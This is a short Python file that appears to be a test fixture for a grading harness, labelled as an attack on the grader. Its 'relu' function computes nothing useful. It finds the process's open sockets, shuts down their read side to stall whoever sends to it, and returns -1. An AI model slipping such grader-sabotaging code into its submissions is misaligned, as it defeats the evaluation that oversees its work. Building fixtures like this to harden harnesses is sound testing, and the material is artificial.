"""Stops reading, so that whoever sends to it would wait.

step: step2
attacks: grader
outcome: error|fail of relu
"""

import os
import stat


class Channel:
    def __init__(self, descriptor):
        self.descriptor = descriptor

    def sendall(self, data):
        while data:
            data = data[os.write(self.descriptor, data) :]

    def recv(self, size):
        return os.read(self.descriptor, size)


def sockets():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield Channel(descriptor)
        except OSError:
            continue


import ctypes


def relu(z):
    for channel in sockets():
        ctypes.CDLL(None).shutdown(channel.descriptor, 0)
    return z * 0 - 1
